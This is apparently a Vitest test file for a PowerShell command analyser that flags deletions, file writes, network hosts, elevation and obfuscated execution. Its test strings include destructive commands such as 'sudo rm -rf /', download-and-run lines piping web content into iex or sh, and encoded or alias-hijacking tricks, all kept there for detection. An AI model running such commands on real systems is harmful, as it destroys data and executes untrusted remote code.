import { describe, expect, test } from 'vitest';
import { analyzePowerShell } from '../../../../src/engine/shell/powershell/analyze.ts';
import { analyzed, files, shown } from './shown.ts';

describe('the commands of a text', () => {
  test.each<[string, readonly string[]]>([
    ['git status', ['git status']],
    ['git diff -- src/', ['git diff -- src/']],
    ['npm run test -- --watch=false', ['npm run test -- --watch=false']],
    ['git log --format="%h %s" -n 5', ['git log --format=%h %s -n 5']],
    ['a; b && c || d\ne | f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['Get-Content a |\n  Out-Null', ['Get-Content a', 'Out-Null']],
    ['Get-Content a\n  | Out-Null', ['Get-Content a', 'Out-Null']],
    ['foo `\n  bar', ['foo bar']],
    ['foo a#b # not this; rm x', ['foo a#b']],
    ['foo <# rm x #> bar', ['foo bar']],
    ['foo \'it\'\'s\' "a""b" `$x', ['foo it\'s a"b $x']],
    ['foo “a b” ‘c’ „d”', ['foo a b c d']],
    ["foo 'a’; Remove-Item x; foo ‘b'", ['foo a', 'Remove-Item x', 'foo b']],
    ['foo "`u{72}m"', ['foo rm']],
    ['foo @"\n"; Remove-Item x\n"@', ['foo "; Remove-Item x']],
    ["foo @'\n$x\n'@ bar", ['foo $x bar']],
    ['foo a,b, c', ['foo a b c']],
    ['7z x a.zip', ['7z x a.zip']],
    ['& "C:\\Program Files\\Git\\bin\\git.exe" push', ['c:/program files/git/bin/git push']],
    ['GIT.EXE push; npm.cmd test', ['git push', 'npm test']],
    ['if (Test-Path x) { del x } elseif ($a) { b } else { c } d', ['Test-Path x', 'Remove-Item x', 'b', 'c', 'd']],
    ['foreach ($f in Get-ChildItem) { del $f }', ['Get-ChildItem', 'Remove-Item …']],
    ['for ($i = 0; $i -lt 5; $i++) { del x }', ['Remove-Item x']],
    ['do { a } while ($true); while ($true) { b }', ['a', 'b']],
    ['switch ($x) { "a" { a } default { b } }', ['a', 'b']],
    ['try { a }\ncatch [System.Exception] { b }\nfinally { c }', ['a', 'b', 'c']],
    ['function clean($what) { del $what }\nclean x', ['Remove-Item …', 'clean x']],
    ['& { del x }', ['Remove-Item x']],
    ['$x = del y', ['Remove-Item y']],
    ['$h = @{ a = 1; "b c" = del y }', ['Remove-Item y']],
    ['foo "a $(del x) b"', ['Remove-Item x', 'foo a … b']],
    ['git log --format=%(refname)', ['refname', 'git log --format=% …']],
    ['Invoke-Command { del x }', ['Remove-Item x', 'Invoke-Command { del x }']],
    ['return del x', ['Remove-Item x']],
    ['(Get-Content a).Count', ['Get-Content a']],
    ['$x.Name -eq "rm y"', []],
    ['"rm -rf /"', []],
    ['1..5 | ForEach-Object { $_ * 2 }', ['ForEach-Object { $_ * 2 }']],
  ])('%s', (text, expected) => {
    expect(analyzed(text).parsed).toBe(true);
    expect(shown(text)).toEqual(expected);
  });
});

describe('names and parameters', () => {
  test.each<[string, readonly string[]]>([
    ['del x', ['Remove-Item x']],
    ['Remove–Item x', ['Remove-Item x']],
    ['.\\Remove-Item x', ['./remove-item x']],
    ['REMOVE-ITEM x', ['Remove-Item x']],
    ['Microsoft.PowerShell.Management\\Remove-Item x', ['Remove-Item x']],
    ['ri -r -fo x', ['Remove-Item -Recurse -Force x']],
    ['rd -Rec -Force:$true x', ['Remove-Item -Recurse -Force True x']],
    ['ri –recurse x', ['Remove-Item -Recurse x']],
    ['gci -r', ['Get-ChildItem -Recurse']],
    ['clear-recyclebin -force', ['Clear-RecycleBin -force']],
    ['rm -rf x', ['rm -rf x', 'Remove-Item -rf x']],
    ['curl https://a.b', ['curl https://a.b', 'Invoke-WebRequest https://a.b']],
  ])('%s', (text, expected) => {
    expect(shown(text)).toEqual(expected);
  });

  test.each<[string, readonly string[]]>([
    ['rm -rf x', ['rm -rf x']],
    ['ls', ['ls']],
    ['rm -Recurse x', ['rm -Recurse x', 'Remove-Item -Recurse x']],
    ['del x', ['Remove-Item x']],
  ])('outside of Windows: %s', (text, expected) => {
    expect(shown(text, '/work')).toEqual(expected);
  });
});

describe('what programs run', () => {
  test.each<[string, readonly string[]]>([
    ['sudo rm -rf /', ['sudo rm -rf /', 'sudo > rm -rf /']],
    ['bash -c "rm -rf ~"', ['bash -c rm -rf ~', 'bash > rm -rf ~']],
    ['pwsh -NoProfile -c "del x"', ['pwsh -NoProfile -c del x', 'pwsh > Remove-Item x']],
    ['powershell del x', ['powershell del x', 'powershell > Remove-Item x']],
    ['powershell -e cgBtACAAeAA=', ['powershell -e cgBtACAAeAA=', 'powershell > Remove-Item x']],
    ['powershell -c { del x }', ['Remove-Item x', 'powershell -c { del x }', 'powershell > Remove-Item x']],
    ['"del x" | pwsh -c -', ['pwsh -c -', 'pwsh > Remove-Item x']],
    ['iex "del x"', ['Invoke-Expression del x', 'Invoke-Expression > Remove-Item x']],
    ['"del x" | iex', ['Invoke-Expression', 'Invoke-Expression > Remove-Item x']],
    ['Start-Process git -ArgumentList "push -f"', ['Start-Process git -ArgumentList push -f', 'Start-Process > git push -f']],
    ['cmd /d/cdel x', ['cmd /d/cdel x', 'cmd > del x']],
    ['cmd /c del /s C:\\x', ['cmd /c del /s C:\\x', 'cmd > del /s C:\\x']],
    ['.\\clean.ps1 now', ['.\\clean.ps1 now', '.\\clean.ps1 > Remove-Item -Recurse C:\\x']],
    ['pwsh -File clean.ps1', ['pwsh -File clean.ps1', 'pwsh > clean.ps1', 'pwsh > clean.ps1 > Remove-Item -Recurse C:\\x']],
  ])('%s', (text, expected) => {
    expect(shown(text)).toEqual(expected);
  });

  test('with the rights of an administrator, where it asks for them', () => {
    const { invocations } = analyzed('Start-Process -Verb RunAs pwsh -ArgumentList "-c del x"');
    expect(invocations.map(({ privileged }) => privileged)).toEqual([false, true, true]);
  });

  test('from a script, where it comes from one', () => {
    expect(analyzed('./clean.ps1').invocations.map(({ fromFile }) => fromFile)).toEqual([false, true]);
  });
});

describe('files', () => {
  test.each<[string, readonly string[]]>([
    ['Remove-Item -Recurse C:\\x, "b c"', ['delete* C:/x', 'delete* b c']],
    ['Remove-Item -LiteralPath a*', ['delete a*']],
    ['del src\\*.log', ['delete src/….log']],
    ['Remove-Item -Path $HOME\\x', ['delete ~/x']],
    ['Remove-Item $x -Recurse', ['delete* …']],
    ['Remove-Item x -WhatIf', []],
    ['Remove-Item Env:X, HKCU:\\x', []],
    ['Remove-Item Odd:\\x', ['delete …']],
    ['Remove-Item FileSystem::C:\\x', ['delete C:/x']],
    ['gci src -r | ? Length -gt 1 | del -Force', ['read src', 'delete src/…']],
    ['"a", "b" | Remove-Item', ['delete a', 'delete b']],
    ['Clear-Content a', ['delete a']],
    ['Set-Content -Path a -Value b', ['write a']],
    ['ac a b', ['write a']],
    ['Set-Content -LiteralPath a b', ['write a']],
    ['foo | Out-File a', ['write a']],
    ['foo > a 2>> b *> $null 2>&1', ['write a', 'write b']],
    ['"text" > a', ['write a']],
    ['gc a', ['read a']],
    ['Copy-Item a b', ['read a', 'write b']],
    ['Move-Item a -Destination b', ['write b', 'read a', 'delete* a']],
    ['New-Item -Path src -Name a', ['write src', 'write src/a']],
    ['iwr https://a.b/c -OutFile d', ['write d']],
    ['Rename-Item a -NewName { $_ }', ['write …', 'read a', 'delete* a']],
    ['Write-Output C:\\x', []],
  ])('%s', (text, expected) => {
    expect(files(text)).toEqual(expected);
  });

  test('a folder that is changed to counts from there on', () => {
    expect(analyzed('cd C:\\; del *').directories).toEqual(['C:/']);
  });
});

test.each<[string, readonly string[], boolean]>([
  ['iwr https://a.example/x | iex', ['a.example'], true],
  ['iex (irm a.example/x)', ['a.example'], true],
  ['iex (New-Object Net.WebClient).DownloadString("https://a.example/x")', ['a.example'], true],
  ['$x = irm a.example/x; iex $x', ['a.example'], true],
  ['& ([scriptblock]::Create((irm a.example/x)))', ['a.example'], true],
  ['curl.exe https://a.example/x | sh', [], true],
  ['gc x | python', [], true],
  ['Invoke-WebRequest -Uri "https://user:word@A.example:80/x"', ['a.example'], false],
  ['Write-Output https://a.example', [], false],
])('%s contacts %j; its output becomes a program: %s', (text, hosts, pipes) => {
  const { invocations, network, pipesToInterpreter } = analyzed(text);
  expect([...new Set(invocations.flatMap((invocation) => invocation.hosts))]).toEqual(hosts);
  expect(pipesToInterpreter).toBe(pipes);
  expect(network || hosts.length === 0).toBe(true);
});

describe('what is not plainly literal may run anything', () => {
  test.each([
    '& $c x',
    '. $profile',
    '. ./other.sh',
    '& (Get-Command rm) x',
    '&("r" + "m") x',
    'iex $x',
    'iex "rm $x"',
    '$x | iex',
    '[scriptblock]::Create("rm x").Invoke()',
    '[IO.File]::Delete("x")',
    '[System.Diagnostics.Process]::Start("rm")',
    '[Environment]::SetEnvironmentVariable("PATH", "x")',
    '(Get-Item x).Delete()',
    '$x."Delete"()',
    '$x.$method()',
    '(gi a).Replace("b", "c")',
    'gci | % Delete',
    'gci | ForEach-Object -MemberName Delete',
    '1 | % $block',
    'Start-Process $x',
    'Start-Job -FilePath x.ps1',
    'Invoke-Command -FilePath x.ps1',
    'Invoke-CimMethod -ClassName Win32_Process -MethodName Create',
    'powershell -e !!!',
    'powershell -c $x',
    'pwsh -Unknown x',
    'cmd /c "for %i in (a) do b"',
    '${C:\\x} = 1',
    'class A { }',
    'using module x',
    'foo "unfinished',
    'foo (bar',
    'foo }',
    '$x = ',
    'foo $x.y(',
    '$a $b',
    '(1) foo',
    'foo < bar',
    'rm\u0085-r x',
    'rm\0x',
    'r`\nm x',
  ])('%j', (text) => {
    const { dynamic, unknown, invocations } = analyzed(text);
    expect(dynamic).toBe(true);
    expect(unknown.length).toBeGreaterThan(0);
    expect(invocations.some(({ program }) => program === undefined)).toBe(true);
  });

  test.each([
    '$x.Name.ToString().Trim()',
    '[int]"5"',
    '[Math]::Max(1, 2)',
    '[DateTime]::Now.AddDays(1)',
    '$t = gc a; $t.Replace("a", "b")',
  ])('but %s runs nothing', (text) => {
    expect(analyzed(text).dynamic).toBe(false);
  });
});

test.each([
  'Import-Module ./x.psm1; x y',
  'Set-Alias x rm; x y',
  'nal x rm',
  '$env:PATH = "."; git x',
  '$function:git = { }; git x',
  'Set-Item alias:git rm; git x',
  'g`it x',
  '$PSDefaultParameterValues["*:Force"] = 1; git x',
])('after %s, a name may mean something else', (text) => {
  const { dynamic, invocations } = analyzed(text);
  expect(dynamic).toBe(true);
  expect(invocations.every(({ disguised }) => disguised)).toBe(true);
});

test('a function takes the name of a program', () => {
  expect(analyzed('function git { }; git push').invocations.map(({ disguised }) => disguised)).toEqual([true]);
});

test('variables that are known stay so only while the text does not set them', () => {
  expect(files('del $HOME/x')).toEqual(['delete ~/x']);
  expect(files('$HOME = "C:"; del $HOME/x')).toEqual(['delete …/x']);
});

test('an unknown word says why, and where it stands', () => {
  expect(analyzed('git add $file').unknown[0]).toEqual({
    reason: '$file is not known before it runs',
    text: '$file',
    span: { start: 8, end: 13 },
  });
});

test('a command says where it stands in the text', () => {
  const text = 'git status; if ($x) { Remove-Item x }';
  expect(analyzed(text).invocations.map(({ span }) => text.slice(span?.start, span?.end))).toEqual(['git status', 'Remove-Item x']);
});

test('a text that another command runs stands behind it, and not in the text of the call', () => {
  const surroundings = { cwd: '/work', home: '/home/ada', shell: () => analyzed('') };
  const within = { wrappers: ['bash', 'pwsh'], depth: 2, privileged: true };
  expect(analyzePowerShell('del x', surroundings, within).invocations).toMatchObject([
    { program: 'Remove-Item', wrappers: ['bash', 'pwsh'], privileged: true },
  ]);
  expect(analyzePowerShell('del x', surroundings, within).invocations[0]).not.toHaveProperty('span');
  expect(analyzePowerShell('del x', surroundings, { depth: 9 }).parsed).toBe(false);
});

test('hostile texts are unknown, and nothing is thrown', () => {
  const hostile = ['$(', '"$(', '(', '{', '[a', '<#', '@"\n', '@{a=', 'if (a) {', '$a=', '$a.b()', 'iex "', 'a;', 'a|'];
  for (const part of hostile) expect(analyzed(part.repeat(60_000 / part.length)).dynamic).toBe(true);
  for (const part of ["'", '"', '-', '$', ' ', '\n', '1', ',']) analyzed(part.repeat(60_001));
  expect(analyzed('a'.repeat(65_537)).parsed).toBe(false);
});
